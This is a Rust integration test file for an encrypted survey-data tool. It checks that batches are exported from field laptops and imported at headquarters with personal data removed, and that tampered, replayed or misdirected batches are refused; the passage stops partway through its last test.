//! Batches end to end, on real SQLCipher folders and real files: export on the laptop, import at
//! headquarters, the stock `age` tool, tampering, replay and order, consent and withdrawal.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use fourmi::batch::BatchError;
use fourmi::batch::anonymise::{Coarsen, Options};
use fourmi::batch::export::export;
use fourmi::batch::import::{Identity, import_file};
use fourmi::store::hq::{Database, Hq};
use fourmi::store::{RecordFilter, Selection, Status, Store};
use rand::{Rng, SeedableRng};

mod common;

thread_local! {
    /// Whether `Headquarters::new` makes its database on PostgreSQL (see [`on_both`]).
    static ON_POSTGRES: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

/// Runs a headquarters test on SQLite, then again on PostgreSQL (a real server, see
/// common/pg.rs; skipped, saying so, when none can be started).
fn on_both(test: impl Fn()) {
    test();
    if common::pg::available() {
        ON_POSTGRES.set(true);
        let done = std::panic::catch_unwind(std::panic::AssertUnwindSafe(&test));
        ON_POSTGRES.set(false);
        if let Err(e) = done {
            eprintln!("(this failure is on PostgreSQL)");
            std::panic::resume_unwind(e);
        }
    }
}

/// A form with a personal question, free text, quasi-identifiers, a multi-select and a repeat.
const FORM: &str = r#"
[settings]
form_id = "fieldtest"
version = "1"
default_language = "English (en)"
consent_question = "consent"

[[survey]]
type = "select_one yes_no"
name = "consent"
label."English (en)" = "Do you agree to take part?"
label."French (fr)" = "Acceptez-vous ?"
required = "yes"

[[survey]]
type = "text"
name = "respondent_name"
label."English (en)" = "Name"
label."French (fr)" = "Nom"
privacy = "personal"

[[survey]]
type = "select_one sex"
name = "sex"
label."English (en)" = "Sex"
label."French (fr)" = "Sexe"
privacy = "quasi_identifier"

[[survey]]
type = "integer"
name = "age"
label."English (en)" = "Age"
label."French (fr)" = "Âge"
privacy = "quasi_identifier"

[[survey]]
type = "begin_group"
name = "journey"
label."English (en)" = "Journey"
label."French (fr)" = "Voyage"

[[survey]]
type = "select_multiple who"
name = "helped"
label."English (en)" = "Who helped you?"
label."French (fr)" = "Qui vous a aidé ?"

[[survey]]
type = "text"
name = "story"
label."English (en)" = "Anything else?"
label."French (fr)" = "Autre chose ?"

[[survey]]
type = "end_group"

[[survey]]
type = "begin_repeat"
name = "incident"
label."English (en)" = "Incident"
label."French (fr)" = "Incident"

[[survey]]
type = "select_one itype"
name = "itype"
label."English (en)" = "What happened?"
label."French (fr)" = "Que s'est-il passé ?"

[[survey]]
type = "select_multiple who"
name = "perp"
label."English (en)" = "Who did it?"
label."French (fr)" = "Qui ?"

[[survey]]
type = "end_repeat"

[[choices]]
list_name = "yes_no"
name = "yes"
label."English (en)" = "Yes"
label."French (fr)" = "Oui"

[[choices]]
list_name = "yes_no"
name = "no"
label."English (en)" = "No"
label."French (fr)" = "Non"

[[choices]]
list_name = "sex"
name = "female"
label."English (en)" = "Female"
label."French (fr)" = "Femme"

[[choices]]
list_name = "sex"
name = "male"
label."English (en)" = "Male"
label."French (fr)" = "Homme"

[[choices]]
list_name = "who"
name = "police"
label."English (en)" = "Police"
label."French (fr)" = "Police"

[[choices]]
list_name = "who"
name = "smuggler"
label."English (en)" = "Smuggler"
label."French (fr)" = "Passeur"

[[choices]]
list_name = "who"
name = "ngo"
label."English (en)" = "NGO"
label."French (fr)" = "ONG"

[[choices]]
list_name = "itype"
name = "robbery"
label."English (en)" = "Robbery"
label."French (fr)" = "Vol"

[[choices]]
list_name = "itype"
name = "detention"
label."English (en)" = "Detention"
label."French (fr)" = "Détention"
"#;

const PASS: &str = "coordinator passphrase";

/// Anonymisation that leaves quasi-identifiers as given (k = 1).
const AS_GIVEN: Options = Options { coarsen: Coarsen::None, k: 1, l: 1 };

struct Laptop {
    dir: tempfile::TempDir,
}

impl Laptop {
    /// A laptop set up with a coordinator, a monitor and a supervisor, encrypting to `recipients`.
    fn new(recipients: &[String]) -> Laptop {
        let laptop = Laptop { dir: tempfile::tempdir().unwrap() };
        std::fs::write(laptop.path("chief.pass"), format!("{PASS}\n")).unwrap();
        std::fs::write(laptop.path("ana.pass"), "monitor passphrase 1\n").unwrap();
        std::fs::write(laptop.path("form.toml"), FORM).unwrap();
        let mut args = vec!["setup".to_string(), "--name".into(), "chief".into()];
        for r in recipients {
            args.extend(["--recipient".to_string(), r.clone()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        ok(&laptop.run(&args, "chief"));
        let pass = laptop.path("ana.pass");
        ok(&laptop.run(&["account", "add", "ana", "--role", "monitor", "--new-passphrase-file", &pass], "chief"));
        laptop
    }
    fn path(&self, name: &str) -> String {
        self.dir.path().join(name).display().to_string()
    }
    fn data(&self) -> PathBuf {
        self.dir.path().join("data")
    }
    fn run(&self, args: &[&str], user: &str) -> Output {
        Command::new(env!("CARGO_BIN_EXE_fourmi"))
            .args(args)
            .arg("--data-dir")
            .arg(self.data())
            .args(["--user", user, "--passphrase-file"])
            .arg(self.path(&format!("{user}.pass")))
            .output()
            .unwrap()
    }
    /// Enters finalised records (JSON objects) as the monitor; returns their ids.
    fn enter(&self, records: &[serde_json::Value]) -> Vec<String> {
        let file = self.path("answers.jsonl");
        let text: Vec<String> = records.iter().map(|r| r.to_string()).collect();
        std::fs::write(&file, text.join("\n")).unwrap();
        let out =
            self.run(&["records", "add", "--form", &self.path("form.toml"), "--answers", &file, "--finalize"], "ana");
        ok(&out);
        String::from_utf8_lossy(&out.stdout).lines().map(|l| l.split('\t').next().unwrap().to_string()).collect()
    }
    fn open(&self) -> Store {
        Store::open(&self.data(), "chief", PASS).unwrap_or_else(|e| panic!("unlocking the laptop: {e}"))
    }
    /// Enters and approves records.
    fn approved(&self, records: &[serde_json::Value]) -> Vec<String> {
        let ids = self.enter(records);
        let mut store = self.open();
        for id in &ids {
            store.approve(id).unwrap();
        }
        ids
    }
    /// Enters records as the coordinator's own (the monitor may be disabled) and approves them.
    fn approved_by_coordinator(&self, records: &[serde_json::Value]) -> Vec<String> {
        let file = self.path("answers-chief.jsonl");
        let text: Vec<String> = records.iter().map(|r| r.to_string()).collect();
        std::fs::write(&file, text.join("\n")).unwrap();
        let out =
            self.run(&["records", "add", "--form", &self.path("form.toml"), "--answers", &file, "--finalize"], "chief");
        ok(&out);
        let ids: Vec<String> =
            String::from_utf8_lossy(&out.stdout).lines().map(|l| l.split('\t').next().unwrap().to_string()).collect();
        let mut store = self.open();
        for id in &ids {
            store.approve(id).unwrap();
        }
        ids
    }
    fn device_line(&self) -> String {
        self.open().device_pubkey().unwrap()
    }
    /// Writes the next batch into `to`, with k = 1: these tests are about batches, and leave
    /// the answers as given (disclosure control is tested in tests/disclosure.rs).
    fn export(&self, to: &Path) -> PathBuf {
        std::fs::create_dir_all(to).unwrap();
        let mut store = self.open();
        export(&mut store, &Selection::Next(RecordFilter::default()), &AS_GIVEN, to).unwrap().0.path
    }
}

fn ok(out: &Output) {
    assert!(out.status.success(), "{}\n{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
}

/// Headquarters: an identity file and a database, SQLite in the folder or PostgreSQL (when a
/// test runs [`on_both`]).
struct Headquarters {
    dir: tempfile::TempDir,
    recipient: String,
    database: Database,
}

impl Headquarters {
    fn new() -> Headquarters {
        let dir = tempfile::tempdir().unwrap();
        let identity = age::x25519::Identity::generate();
        let recipient = identity.to_public().to_string();
        use age::secrecy::ExposeSecret;
        let text = format!("# created: test\n# public key: {recipient}\n{}\n", identity.to_string().expose_secret());
        std::fs::write(dir.path().join("hq-identity.txt"), text).unwrap();
        Headquarters::with(dir, recipient)
    }
    fn with(dir: tempfile::TempDir, recipient: String) -> Headquarters {
        let database = if ON_POSTGRES.get() {
            Database::Postgres(common::pg::database().unwrap())
        } else {
            Database::Embedded(dir.path().join("db"))
        };
        let hq = Headquarters { dir, recipient, database };
        Hq::init_at(&hq.database, &hq.identity_file(), &hq.recipient).unwrap();
        hq
    }
    /// Another headquarters database with the same identity (batches are encrypted to it).
    fn new_with_identity_of(other: &Headquarters) -> Headquarters {
        let dir = tempfile::tempdir().unwrap();
        std::fs::copy(other.identity_file(), dir.path().join("hq-identity.txt")).unwrap();
        Headquarters::with(dir, other.recipient.clone())
    }
    /// The command line's words for this database.
    fn cli_args(&self) -> Vec<String> {
        let mut args = vec!["--data-dir".to_string(), self.db_dir().display().to_string()];
        if let Database::Postgres(url) = &self.database {
            args.extend(["--database".to_string(), url.clone()]);
        }
        args
    }
    fn identity_file(&self) -> PathBuf {
        self.dir.path().join("hq-identity.txt")
    }
    fn db_dir(&self) -> PathBuf {
        self.dir.path().join("db")
    }
    fn open(&self) -> Hq {
        Hq::open_at(&self.database).unwrap()
    }
    fn register(&self, laptop: &Laptop) {
        self.open().add_device(&laptop.device_line(), "laptop").unwrap();
    }
    fn import(&self, file: &Path) -> Result<fourmi::batch::import::Imported, BatchError> {
        let identity = Identity::read(&self.identity_file()).unwrap();
        import_file(&mut self.open(), &identity, file)
    }
    fn dump(&self) -> Vec<String> {
        self.open().dump().unwrap()
    }
}

fn answers(i: usize) -> serde_json::Value {
    let sex = if i.is_multiple_of(2) { "female" } else { "male" };
    serde_json::json!({
        "consent": "yes",
        "respondent_name": format!("Aminata {i}"),
        "sex": sex,
        "age": 20 + i % 3,
        "helped": ["police", "ngo"],
        "story": format!("call me on +223 76 12 34 {:02} or write to a{i}@example.org", i % 100),
        "incident": [
            {"itype": "robbery", "perp": ["police"]},
            {"itype": "detention", "perp": ["police", "smuggler"]}
        ]
    })
}

#[test]
fn approved_records_arrive_at_headquarters_field_by_field_without_personal_data() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        let ids = laptop.approved(&(0..6).map(answers).collect::<Vec<_>>());
        let out = tempfile::tempdir().unwrap();
        let file = laptop.export(out.path());
        hq.register(&laptop);
        let imported = hq.import(&file).unwrap();
        assert_eq!((imported.seq, imported.counts.imported, imported.counts.unchanged), (1, 6, 0));

        let store = laptop.open();
        let mut at_hq = Vec::new();
        hq.open().each_record("fieldtest", |r| at_hq.push(r)).unwrap();
        assert_eq!(at_hq.len(), 6);
        for r in &at_hq {
            let local = store.record(&r.uuid).unwrap();
            assert_eq!(local.status, Status::Exported, "exported records change status on the laptop");
            let mut expected = local.answers.as_object().unwrap().clone();
            assert!(expected.remove("respondent_name").is_some());
            let story = expected["story"].as_str().unwrap().to_string();
            assert!(story.contains("+223"));
            expected["story"] = serde_json::json!("call me on [phone] or write to [email]");
            assert_eq!(r.answers, expected, "answers equal, minus the personal name and the scrubbed contacts");
            assert_eq!(
                (&r.form_id, &r.form_version, &r.form_hash, &r.monitor, &r.device_id),
                (&local.form_id, &local.form_version, &local.form_hash, &local.monitor, &local.device_id)
            );
            assert_eq!(
                (&r.started_at, &r.completed_at, &r.language),
                (&local.started_at, &local.completed_at, &local.language)
            );
            assert_eq!((r.consent_interview, r.revision), (true, local.revision));
            let statuses: Vec<&str> = r.history.iter().map(|h| h.status.as_str()).collect();
            assert_eq!(statuses, ["completed", "approved"]);
        }
        assert!(ids.iter().all(|id| at_hq.iter().any(|r| &r.uuid == id)));
        let ledger = store.batches().unwrap();
        assert_eq!((ledger[0].seq, ledger[0].state.as_str(), ledger[0].records), (1, "written", 6));
        assert_eq!(store.verify_audit().unwrap(), None, "the audit chain holds the six exports");
        let exported = store.audit_for(&ids[0]).unwrap();
        assert!(exported.iter().any(|a| a.action == "status exported"));
        let bytes = std::fs::read(&file).unwrap();
        assert!(!bytes.windows(7).any(|w| w == b"Aminata"), "nothing readable in the file");
    });
}

#[test]
fn the_stock_age_tool_decrypts_a_batch_with_the_headquarters_identity() {
    if Command::new("age").arg("--version").output().is_err() {
        eprintln!("SKIPPED: the `age` command is not installed (apt install age)");
        return;
    }
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    laptop.approved(&[answers(1)]);
    let out = tempfile::tempdir().unwrap();
    let file = laptop.export(out.path());
    let script = format!("tail -n +5 '{}' | age -d -i '{}'", file.display(), hq.identity_file().display());
    let plain = Command::new("sh").arg("-c").arg(script).output().unwrap();
    ok(&plain);
    let text = String::from_utf8(plain.stdout).unwrap();
    let lines: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines[0]["kind"], "batch");
    assert_eq!(lines[0]["seq"], 1);
    assert!(lines.iter().any(|l| l["kind"] == "record" && l["answers"]["sex"] == "male"));
    assert_eq!(lines.last().unwrap()["kind"], "end");
}

#[test]
fn flipped_bytes_and_truncations_anywhere_are_refused_and_import_nothing() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        laptop.approved(&[answers(1), answers(2)]);
        let out = tempfile::tempdir().unwrap();
        let file = laptop.export(out.path());
        hq.register(&laptop);
        let good = std::fs::read(&file).unwrap();
        let bad = out.path().join("bad.batch");
        // Where the age part starts (after the four text lines): its own header comes first.
        let age_at = good.iter().enumerate().filter(|(_, b)| **b == b'\n').nth(3).unwrap().0 + 1;
        let mut rng = rand::rngs::StdRng::seed_from_u64(7);
        for round in 0..300 {
            let mut bytes = good.clone();
            if round % 10 == 9 {
                bytes.truncate(rng.gen_range(0..good.len()));
            } else {
                let at = match round {
                    0..40 => rng.gen_range(0..400.min(good.len())),
                    40..80 => rng.gen_range(age_at..(age_at + 200).min(good.len())),
                    _ => rng.gen_range(0..good.len()),
                };
                bytes[at] ^= 1 << rng.gen_range(0..8);
            }
            std::fs::write(&bad, &bytes).unwrap();
            let result = hq.import(&bad);
            assert!(result.is_err(), "round {round}: a changed batch was accepted");
            assert!(
                !matches!(result, Err(BatchError::NotForUs(_))),
                "round {round}: a damaged batch was said to be for another headquarters"
            );
        }
        assert!(hq.dump().is_empty(), "nothing was imported");
        assert_eq!(hq.import(&file).unwrap().counts.imported, 2, "the untouched file still imports");
    });
}

/// A batch copied half-way (a USB stick pulled out) that ends within its first lines is said to
/// be cut short, so that the coordinator copies it again; a file that does not start like a
/// batch is said not to be one.
#[test]
fn a_batch_cut_within_its_first_lines_is_said_to_be_cut_short_not_to_be_no_batch() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    laptop.approved(&[answers(1)]);
    let out = tempfile::tempdir().unwrap();
    let file = laptop.export(out.path());
    hq.register(&laptop);
    let good = std::fs::read(&file).unwrap();
    let age_at = good.iter().enumerate().filter(|(_, b)| **b == b'\n').nth(3).unwrap().0;
    let cut = out.path().join("cut.batch");
    for len in [16, 40, age_at / 2, age_at - 1, age_at] {
        std::fs::write(&cut, &good[..len]).unwrap();
        let err = hq.import(&cut).unwrap_err();
        assert!(matches!(err, BatchError::Damaged(_)), "cut at {len}: {err}");
        assert!(err.to_string().contains("cut short"), "{err}");
    }
    std::fs::write(&cut, b"notes about the trip\n").unwrap();
    assert!(matches!(hq.import(&cut), Err(BatchError::NotABatch(_))));
    assert!(hq.dump().is_empty());
}

#[test]
fn a_batch_from_an_unknown_laptop_or_for_another_headquarters_is_refused() {
    on_both(|| {
        let hq = Headquarters::new();
        let other = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        laptop.approved(&[answers(1)]);
        let out = tempfile::tempdir().unwrap();
        let file = laptop.export(out.path());
        assert!(matches!(hq.import(&file), Err(BatchError::UnknownDevice(_))));
        other.register(&laptop);
        let err = other.import(&file).unwrap_err();
        assert!(matches!(err, BatchError::NotForUs(_)), "{err}");
        assert!(err.to_string().contains("not encrypted for this headquarters"));
        assert!(hq.dump().is_empty() && other.dump().is_empty());
    });
}

#[test]
fn importing_again_or_in_another_order_gives_the_same_database() {
    on_both(|| {
        let hq_a = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq_a.recipient));
        let out = tempfile::tempdir().unwrap();
        let first = laptop.approved(&[answers(1), answers(2), answers(3)]);
        let b1 = laptop.export(&out.path().join("1"));
        laptop.approved(&[answers(4), answers(5)]);
        laptop.open().withdraw(&first[0]).unwrap();
        let b2 = laptop.export(&out.path().join("2"));
        laptop.approved(&[answers(6)]);
        let b3 = laptop.export(&out.path().join("3"));
        // Batch 3 written again: the same record, its export now in its history.
        std::fs::create_dir_all(out.path().join("4")).unwrap();
        let b4 = export(&mut laptop.open(), &Selection::Again(3), &AS_GIVEN, &out.path().join("4")).unwrap().0.path;

        hq_a.register(&laptop);
        for f in [&b1, &b2, &b3, &b4] {
            hq_a.import(f).unwrap();
        }
        let once = hq_a.dump();
        assert_eq!(once.iter().filter(|l| l.starts_with("record ")).count(), 5, "six records, one withdrawn");
        assert!(once.iter().any(|l| l.starts_with("tombstone ") && l.contains(&first[0])));
        for f in [&b4, &b3, &b1, &b2] {
            let again = hq_a.import(f).unwrap();
            assert_eq!((again.counts.imported, again.counts.updated, again.counts.deleted), (0, 0, 0));
        }
        assert_eq!(hq_a.dump(), once, "importing every batch again changes nothing");

        // Another headquarters with the same identity, batches one at a time in other orders.
        for order in [[&b4, &b3, &b2, &b1], [&b2, &b3, &b4, &b1], [&b1, &b4, &b3, &b2]] {
            let hq_b = Headquarters::new_with_identity_of(&hq_a);
            hq_b.register(&laptop);
            for f in order {
                hq_b.import(f).unwrap();
            }
            assert_eq!(hq_b.dump(), once);
        }
    });
}

#[test]
fn a_nul_character_in_a_text_answer_arrives_as_a_replacement_character_on_both_databases() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let mut a = answers(1);
        a["story"] = serde_json::json!("before\u{0}after \\u0000 kept as typed");
        laptop.approved(&[a]);
        let out = tempfile::tempdir().unwrap();
        let imported = hq.import(&laptop.export(out.path())).unwrap();
        assert_eq!(imported.counts.imported, 1);
        let mut stories = Vec::new();
        hq.open().each_record("fieldtest", |r| stories.push(r.answers["story"].clone())).unwrap();
        assert_eq!(stories, [serde_json::json!("before\u{FFFD}after \\u0000 kept as typed")]);
    });
}

/// A laptop of an earlier version, whose `form check` let a NUL character into a label: its
/// batch is imported, and the analysts' views carry the label with U+FFFD, on both databases.
#[test]
fn a_nul_character_in_a_form_label_from_an_older_laptop_arrives_as_a_replacement_character_in_the_views() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let definition = FORM.replace("= \"Robbery\"", "= \"Rob\\u0000bery\"");
        let wb = fourmi::form::read_toml(&definition).unwrap();
        let loaded = fourmi::form::from_workbook(&wb, "fieldtest", None);
        assert!(loaded.diags.iter().any(|d| d.message.contains("NUL")), "refused by today's check");
        let form = std::sync::Arc::new(fourmi::form::Compiled::new(loaded.form));
        let mut ana = Store::open(&laptop.data(), "ana", "monitor passphrase 1").unwrap();
        let hash = ana.save_form(&definition, "fieldtest", "1").unwrap();
        let info = fourmi::interview::StartInfo {
            language: String::new(),
            device_id: "d".into(),
            username: "ana".into(),
            opened_at: chrono::Utc::now().fixed_offset(),
        };
        let mut iv = fourmi::interview::Interview::start(form, info);
        let at = std::time::Duration::from_secs(1);
        iv.fill(answers(1).as_object().unwrap(), at).unwrap();
        iv.finalize(at).unwrap();
        let uuid = ana.create_record(&hash, &iv, &[]).unwrap();
        drop(ana);
        laptop.open().approve(&uuid).unwrap();
        let out = tempfile::tempdir().unwrap();
        assert_eq!(hq.import(&laptop.export(out.path())).unwrap().counts.imported, 1);
        fourmi::batch::import::refresh_views(&mut hq.open()).unwrap();
        let labels = query(
            &hq,
            r#"SELECT label FROM labels WHERE view = 'fieldtest-incident' AND value = 'robbery' AND language = 'English (en)'"#,
        );
        assert_eq!(labels, [["Rob\u{FFFD}bery"]]);
    });
}

#[test]
fn a_withdrawal_on_the_laptop_deletes_the_record_at_headquarters_after_the_next_import() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let out = tempfile::tempdir().unwrap();
        let ids = laptop.approved(&[answers(1), answers(2)]);
        hq.import(&laptop.export(&out.path().join("1"))).unwrap();
        laptop.open().withdraw(&ids[1]).unwrap();
        let second = hq.import(&laptop.export(&out.path().join("2"))).unwrap();
        assert_eq!((second.counts.deleted, second.counts.imported), (1, 0));
        let mut left = Vec::new();
        hq.open().each_record("fieldtest", |r| left.push(r.uuid)).unwrap();
        assert_eq!(left, vec![ids[0].clone()]);
        // The withdrawal is carried once: the next batch has nothing to carry.
        let mut store = laptop.open();
        let nothing = export(&mut store, &Selection::Next(RecordFilter::default()), &AS_GIVEN, out.path());
        assert!(nothing.is_err());
    });
}

#[test]
fn records_without_interview_consent_never_leave_the_laptop() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    // The same questionnaire without a consent setting: its records have no recorded consent.
    let no_consent = FORM.replace("consent_question = \"consent\"\n", "").replace("fieldtest", "noconsent");
    std::fs::write(laptop.path("form.toml"), no_consent).unwrap();
    let without = laptop.approved(&[answers(1)]);
    std::fs::write(laptop.path("form.toml"), FORM).unwrap();
    let with = laptop.approved(&[answers(2)]);
    let mut store = laptop.open();
    let out = tempfile::tempdir().unwrap();
    let (written, prepared) =
        export(&mut store, &Selection::Next(RecordFilter::default()), &AS_GIVEN, out.path()).unwrap();
    assert_eq!(written.records, with);
    assert_eq!(prepared.without_consent, 1);
    assert_eq!(store.record(&without[0]).unwrap().status, Status::Approved, "left on the laptop, approved");
}

#[test]
fn a_reexport_carries_the_same_records_under_a_new_number() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    hq.register(&laptop);
    let ids = laptop.approved(&[answers(1), answers(2)]);
    let out = tempfile::tempdir().unwrap();
    laptop.export(out.path());
    let mut store = laptop.open();
    let (again, _) = export(&mut store, &Selection::Again(1), &AS_GIVEN, out.path()).unwrap();
    assert_eq!(again.records, ids);
    let imported = hq.import(&again.path).unwrap();
    assert_eq!((imported.seq, imported.counts.imported), (2, 2));
    assert_eq!(store.batches().unwrap()[0].reexport_of, Some(1));
}

#[test]
fn a_second_batch_with_a_number_already_imported_is_refused_as_out_of_sequence() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        laptop.approved(&[answers(1)]);
        // A backup of the laptop's data, taken before the first export...
        let backup = tempfile::tempdir().unwrap();
        for entry in std::fs::read_dir(laptop.data()).unwrap() {
            let p = entry.unwrap().path();
            std::fs::copy(&p, backup.path().join(p.file_name().unwrap())).unwrap();
        }
        let out = tempfile::tempdir().unwrap();
        let first = laptop.export(&out.path().join("a"));
        hq.import(&first).unwrap();
        // ... restored, and another batch written: it gets the same number.
        for entry in std::fs::read_dir(backup.path()).unwrap() {
            let p = entry.unwrap().path();
            std::fs::copy(&p, laptop.data().join(p.file_name().unwrap())).unwrap();
        }
        laptop.approved(&[answers(2)]);
        let second = laptop.export(&out.path().join("b"));
        let before = hq.dump();
        let err = hq.import(&second).unwrap_err();
        assert!(matches!(err, BatchError::OutOfSequence { seq: 1, .. }), "{err}");
        assert_eq!(hq.dump(), before);
    });
}

#[test]
fn the_report_says_what_reaching_k_hid_and_timestamps_are_coarsened() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    // Five women aged 20 (i = 0, 6, 12, 18, 24 give sex female, age 20), and one man aged 21: the
    // man is alone whatever the age bands, so k = 5 hides his answers and whole groups join his.
    let mut records: Vec<serde_json::Value> = [0, 6, 12, 18, 24].iter().map(|&i| answers(i)).collect();
    records.push(answers(1));
    laptop.approved(&records);
    let store = laptop.open();
    let set = store.export_set(&Selection::Next(RecordFilter::default())).unwrap();
    let prepared = fourmi::batch::export::prepare(set, &Options { coarsen: Coarsen::Month, k: 5, l: 1 }).unwrap();
    let form = &prepared.report.forms[0];
    assert_eq!(form.personal, ["respondent_name"]);
    assert_eq!(form.dropped, 6);
    assert_eq!(form.quasi, ["sex", "age"]);
    assert!(form.disclosure.k_reached >= 5 && !form.disclosure.short, "{:?}", form.disclosure);
    let man =
        prepared.records.iter().find(|r| r.answers.get("sex").and_then(|v| v.as_str()) != Some("female")).unwrap();
    assert_eq!(man.answers["sex"], "*", "the man's sex is hidden");
    assert_eq!((prepared.report.phones, prepared.report.emails), (6, 6));
    assert!(prepared.records.iter().all(|r| r.started_at.len() == 7 && r.history.iter().all(|h| h.at.len() == 7)));
}

#[test]
fn headquarters_commands_write_kobo_style_tables_a_codebook_and_a_stata_do_file() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        laptop.approved(&[answers(1), answers(2)]);
        let out = tempfile::tempdir().unwrap();
        let to = out.path().display().to_string();
        let export = laptop.run(&["export", "--yes", "--k", "1", "--to", &to], "chief");
        ok(&export);
        let text = String::from_utf8_lossy(&export.stdout).into_owned();
        assert!(text.contains("Not exported (personal): respondent_name"), "{text}");
        let batch = text.lines().find_map(|l| l.strip_prefix("written: ")).unwrap().to_string();
        let ledger = laptop.run(&["batches"], "chief");
        ok(&ledger);
        assert!(String::from_utf8_lossy(&ledger.stdout).contains("\t2 records, 0 withdrawals, "), "{ledger:?}");
        let too_big = laptop.run(&["export", "--yes", "--k", "101", "--to", &to], "chief");
        assert!(!too_big.status.success());
        assert!(String::from_utf8_lossy(&too_big.stderr).contains("--k is from 1 to 100"), "{too_big:?}");

        let hq_dir = out.path().join("hq");
        let fourmi = |args: &[&str]| -> Output {
            Command::new(env!("CARGO_BIN_EXE_fourmi")).args(args).arg("--data-dir").arg(&hq_dir).output().unwrap()
        };
        // On PostgreSQL, `hq init` is told the database once and writes it in the folder's hq.toml,
        // where every later command finds it.
        let mut init =
            vec!["hq".to_string(), "init".into(), "--identity".into(), hq.identity_file().display().to_string()];
        if ON_POSTGRES.get() {
            init.extend(["--database".to_string(), common::pg::database().unwrap()]);
        }
        let init: Vec<&str> = init.iter().map(String::as_str).collect();
        ok(&fourmi(&init));
        let again = fourmi(&init);
        assert!(String::from_utf8_lossy(&again.stderr).contains("A headquarters database already exists"));
        let line = laptop.device_line();
        ok(&fourmi(&["hq", "devices", "add", &line, "--name", "bamako-1"]));
        let imported = fourmi(&["hq", "import", &batch]);
        ok(&imported);
        assert!(String::from_utf8_lossy(&imported.stdout).contains("2 imported, 0 updated, 0 unchanged, 0 deleted"));
        assert!(
            String::from_utf8_lossy(&imported.stderr).contains("was written with k = 1: groups of fewer than 5"),
            "a batch written with k = 1 is pointed out: {imported:?}"
        );
        let in_french = |args: &[&str]| {
            let out = Command::new(env!("CARGO_BIN_EXE_fourmi"))
                .args(args)
                .arg("--data-dir")
                .arg(&hq_dir)
                .env("LANG", "fr_FR.UTF-8")
                .env_remove("LC_ALL")
                .env_remove("LC_MESSAGES")
                .output()
                .unwrap();
            ok(&out);
            String::from_utf8_lossy(&out.stdout).into_owned()
        };
        assert!(in_french(&["hq", "devices", "list"]).contains("\tbamako-1\t1 lot, dernier 1"));
        ok(&fourmi(&["hq", "devices", "add", &line, "--name", "segou-2"]));
        ok(&fourmi(&["hq", "devices", "add", &line]));
        assert!(in_french(&["hq", "devices", "list"]).contains("\tsegou-2\t1 lot"), "registered again: renamed");
        assert!(in_french(&["hq", "import", &batch]).contains(": 0 importée, 0 mise à jour, 2 inchangées, 0 retirée"));

        let tables = fourmi(&["tables", "--hq", "--form", "fieldtest", "--by", "sex", "journey/helped", "helped"]);
        assert!(!tables.status.success(), "a path is not a question name");
        let tables = fourmi(&["tables", "--hq", "--form", "fieldtest", "--by", "sex", "helped"]);
        ok(&tables);
        assert!(
            String::from_utf8_lossy(&tables.stdout).contains("100% (2/2)"),
            "both respondents were helped by the police"
        );

        let flat = out.path().join("flat");
        let checked = fourmi(&[
            "hq",
            "export",
            "csv",
            "--yes",
            "--k",
            "1",
            "--form",
            "fieldtest",
            "--to",
            &flat.display().to_string(),
            "--check",
            "--details",
        ]);
        ok(&checked);
        assert!(String::from_utf8_lossy(&checked.stdout).contains("groups of"), "--details lists the groups");
        assert!(!flat.exists(), "--check writes nothing");
        ok(&fourmi(&[
            "hq",
            "export",
            "csv",
            "--yes",
            "--k",
            "1",
            "--form",
            "fieldtest",
            "--to",
            &flat.display().to_string(),
        ]));
        let mut main = csv::Reader::from_path(flat.join("fieldtest.csv")).unwrap();
        let headers: Vec<String> = main.headers().unwrap().iter().map(str::to_string).collect();
        for h in [
            "consent",
            "sex",
            "age",
            "journey/helped",
            "journey/helped/police",
            "journey/helped/smuggler",
            "journey/story",
            "_uuid",
        ] {
            assert!(headers.contains(&h.to_string()), "{h} in {headers:?}");
        }
        assert!(!headers.iter().any(|h| h.contains("respondent_name")), "no column for personal data");
        let rows: Vec<csv::StringRecord> = main.records().map(Result::unwrap).collect();
        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let helped = rows
            .iter()
            .find(|r| &r[col("journey/helped")] == "police ngo")
            .expect("a record helped by police and an NGO");
        assert_eq!((&helped[col("journey/helped/police")], &helped[col("journey/helped/smuggler")]), ("1", "0"));
        let mut rep = csv::Reader::from_path(flat.join("fieldtest-incident.csv")).unwrap();
        let rh: Vec<String> = rep.headers().unwrap().iter().map(str::to_string).collect();
        assert!(rh.contains(&"incident/perp/smuggler".to_string()) && rh.contains(&"_parent_uuid".to_string()));
        let reps: Vec<csv::StringRecord> = rep.records().map(Result::unwrap).collect();
        assert_eq!(reps.len(), 4, "two incidents per record");
        let parent = rh.iter().position(|h| h == "_parent_uuid").unwrap();
        assert!(rows.iter().any(|r| r[col("_uuid")] == reps[0][parent]));
        let codebook = std::fs::read_to_string(flat.join("fieldtest-codebook.csv")).unwrap();
